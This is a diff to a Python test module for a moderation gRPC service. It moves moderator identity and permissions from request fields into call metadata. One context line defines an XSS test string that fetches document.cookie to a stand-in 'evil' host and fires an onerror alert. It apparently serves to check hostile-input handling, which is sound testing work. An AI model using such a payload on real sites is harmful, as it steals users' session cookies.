@@ -10,8 +10,10 @@ from google.protobuf.timestamp_pb2 import Timestamp
 from parley.moderation.v1 import moderation_pb2 as pb
 from sqlalchemy import Engine
 
+from moderation_service.domain.shared.roles import PERMISSIONS
 from tests.moderation_service.books import check_books
-from tests.moderation_service.conftest import FACTS, MODERATOR, RULE, Client, measure, muted
+from tests.moderation_service.conftest import FACTS, RULE, Client, measure, muted
+from tests.support.callers import as_moderator
 from tests.support.serving import status_of, unpack
 
 SCRIPT = "<script>fetch('//evil/'+document.cookie)</script><img src=x onerror=alert(1)>"
@@ -56,7 +58,6 @@ async def prepare(client: Client) -> dict[str, Message]:
         statement="It fell apart.",
     )
     position = (await client.standing("bob")).position
-    mia: dict[str, Any] = {"actor": "mia", "roles": MODERATOR}
     dispute = opened.dispute.id
     parts = pb.Settlement(provider_minor=1, client_minor=2)
     fields: dict[str, dict[str, Any]] = {
@@ -81,32 +82,28 @@ async def prepare(client: Client) -> dict[str, Message]:
         "SubmitDisputeStatement": {"actor": "ann", "dispute_id": dispute, "text": "words"},
         "GetDispute": {"actor": "ann", "dispute_id": dispute},
         "ListOwnDisputes": {"actor": "ann", "service_id": service.id},
-        "ListCases": {**mia, "accused": "bob", "claimed_by": "mia"},
-        "GetCase": {**mia, "case_id": case.id},
-        "ClaimCase": {**mia, "case_id": waiting.id},
-        "ReleaseCase": {**mia, "case_id": case.id},
+        "ListCases": {"accused": "bob", "claimed_by": "mia"},
+        "GetCase": {"case_id": case.id},
+        "ClaimCase": {"case_id": waiting.id},
+        "ReleaseCase": {"case_id": case.id},
         "DecideCase": {
-            **mia,
             "case_id": waiting.id,
             "version": claimed.version,
             "verdict": pb.VERDICT_VIOLATION,
             "measures": [measure("WARNING"), measure("MESSAGE_REMOVED", "", message_id="m")],
             "note": "words",
         },
-        "ListAppeals": mia,
+        "ListAppeals": {},
         "DecideAppeal": {
-            **mia,
-            "actor": "max",
             "appeal_id": appealed.appeal.id,
             "version": 1,
             "outcome": pb.APPEAL_STATUS_UPHELD,
             "answer": "words",
         },
-        "ListSanctions": {**mia, "user": "bob"},
-        "LiftSanction": {**mia, "sanction_id": decision.sanctions[0].id, "reason": "words"},
-        "ListDisputes": mia,
+        "ListSanctions": {"user": "bob"},
+        "LiftSanction": {"sanction_id": decision.sanctions[0].id, "reason": "words"},
+        "ListDisputes": {},
         "DecideDispute": {
-            **mia,
             "dispute_id": dispute,
             "version": 1,
             "outcome": pb.DISPUTE_OUTCOME_SPLIT,
@@ -114,8 +111,8 @@ async def prepare(client: Client) -> dict[str, Message]:
             "facts": FACTS,
             "rule": RULE,
         },
-        "ListAudit": {**mia, "target_id": case.id},
-        "EraseUser": {"actor": "dora", "roles": ["data_protection"], "user": "eve"},
+        "ListAudit": {"target_id": case.id},
+        "EraseUser": {"user": "eve"},
         "BatchGetStandings": {"users": ["bob"]},
         "UpdateWatch": {"watcher_id": "none", "add_users": ["bob"], "remove_users": ["ann"]},
         "ListChanges": {"user": "bob", "after": pb.Position(epoch=position.epoch),
@@ -130,8 +127,6 @@ def with_text(request: Any, text: str) -> list[tuple[str, Any]]:
     """Copies of a request, each with the text in another of its fields, and which one that is."""
     made: list[tuple[str, Any]] = []
     for field in request.DESCRIPTOR.fields:
-        if field.name == "roles":
-            continue
         if field.message_type is None:
             if field.cpp_type == field.CPPTYPE_STRING:
                 copy = type(request)()
@@ -161,8 +156,10 @@ def with_text(request: Any, text: str) -> list[tuple[str, Any]]:
 
 
 async def outcome(client: Client, name: str, request: Any) -> tuple[str, str]:
+    needed = PERMISSIONS[name]
+    metadata = as_moderator("max", tuple(needed)) if needed else None
     try:
-        await client.call(name, request)
+        await client.call(name, request, metadata)
     except grpc.aio.AioRpcError as error:
         code, status = error.code().name, status_of(error)
     else:
